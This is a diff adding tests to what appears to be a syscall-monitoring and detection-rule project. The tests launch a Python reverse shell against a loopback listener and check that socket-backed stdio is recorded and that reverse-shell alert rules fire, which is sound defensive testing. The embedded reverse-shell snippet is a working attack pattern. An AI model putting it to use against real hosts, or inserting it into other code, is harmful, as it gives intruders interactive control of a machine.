@@ -232,3 +232,78 @@ def test_fork_reports_processes_not_threads(collector: Collector) -> None:
     child = int(out.split()[0])
     forks = [e for e in ev if e["syscall"] == "process_fork" and e["process"]["pid"] == pid]
     assert [e["args"]["child_pid"] for e in forks] == [child]  # 5 threads started, none reported
+
+
+# A reverse shell the classic way: connect, dup2 the socket onto 0/1/2, exec.
+REVERSE_SHELL = """
+import os, socket, sys
+s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
+for fd in (0, 1, 2):
+    os.dup2(s.fileno(), fd)
+os.execv(sys.argv[2], sys.argv[2:])
+"""
+
+
+def _reverse_shell(collector: Collector, argv: list[str]) -> tuple[int, list[dict[str, Any]]]:
+    """Listen on a free loopback port, run the child against it; the child's events (exec first found)."""
+    import socket
+
+    with socket.socket() as srv:
+        srv.bind(("127.0.0.1", 0))
+        srv.listen(1)
+        port = srv.getsockname()[1]
+        p = subprocess.Popen([sys.executable, "-c", REVERSE_SHELL, str(port), *argv], stdin=subprocess.DEVNULL)
+        srv.settimeout(30)
+        conn, _ = srv.accept()
+        with conn:
+            assert p.wait(timeout=30) == 0
+    found = collector.wait_for(lambda e: e["syscall"] == "execve" and e["process"]["pid"] == p.pid
+                               and e["args"]["argv"] == argv)
+    assert found, f"exec of {argv} not seen"
+    collector.wait_for(lambda e: e["syscall"] == "process_exit" and e["process"]["pid"] == p.pid)
+    return p.pid, sorted((e for e in collector.events if e["process"]["pid"] == p.pid), key=lambda e: e["ts_ns"])
+
+
+def test_reverse_shell_stdio_is_a_socket(collector: Collector) -> None:
+    from memtrail.settings import DEFAULT_PATTERNS_DIR
+    from patterns.engine.api import load_engine
+
+    _, ev = _reverse_shell(collector, ["/bin/sh", "-c", "exit 0"])
+    c = one(ev, "connect", addr="127.0.0.1")
+    assert c["ret"] == 0 and c["args"]["family"] == "AF_INET"
+    x = one(ev, "execve", argv=["/bin/sh", "-c", "exit 0"])
+    assert x["args"]["stdio"] == {
+        "stdin": "socket", "stdin_family": "AF_INET", "stdout": "socket", "stdout_family": "AF_INET",
+        "stderr": "socket", "stderr_family": "AF_INET", "network": ["stdin", "stdout", "stderr"]}
+    # the python child's own exec (stdin /dev/null, the test's stdout) has no socket stdio
+    py = [e for e in ev if e["syscall"] == "execve" and e is not x]
+    assert py and py[0]["args"]["stdio"]["stdin"] == "null" and py[0]["args"]["stdio"]["network"] == []
+
+    # the captured events, straight into the shipped library
+    engine = load_engine([DEFAULT_PATTERNS_DIR])
+    alerts = {a.rule.id: a for a in engine.process_batch(ev) + engine.flush()}
+    assert "MT-NET-003" in alerts and "MT-NET-005" in alerts, sorted(alerts)
+    assert alerts["MT-NET-003"].rule.severity == "critical"
+    assert {"T1059.004", "T1095"} <= set(alerts["MT-NET-003"].threat.technique.id)
+    assert "MT-NET-004" not in alerts
+
+
+def test_interpreter_on_a_socket_and_plain_exec(collector: Collector) -> None:
+    from memtrail.settings import DEFAULT_PATTERNS_DIR
+    from patterns.engine.api import load_engine
+
+    _, ev = _reverse_shell(collector, [sys.executable, "-c", "pass"])
+    x = one(ev, "execve", argv=[sys.executable, "-c", "pass"])
+    assert x["args"]["stdio"]["network"] == ["stdin", "stdout", "stderr"]
+    engine = load_engine([DEFAULT_PATTERNS_DIR])
+    ids = {a.rule.id for a in engine.process_batch(ev) + engine.flush()}
+    assert "MT-NET-004" in ids and "MT-NET-003" not in ids, sorted(ids)
+
+    # a plain exec from the test: pipe and /dev/null, no socket, no reverse-shell alert
+    p = subprocess.run(["/bin/true", "stdio-plain"], stdin=subprocess.DEVNULL, capture_output=True,
+                       check=True)
+    assert p.returncode == 0
+    found = collector.wait_for(lambda e: e["syscall"] == "execve" and e["args"]["argv"] == ["/bin/true", "stdio-plain"])
+    assert found and found[0]["args"]["stdio"] == {"stdin": "null", "stdout": "pipe", "stderr": "pipe", "network": []}
+    engine = load_engine([DEFAULT_PATTERNS_DIR])
+    assert not {a.rule.id for a in engine.process_batch(found)} & {"MT-NET-003", "MT-NET-004", "MT-NET-005"}
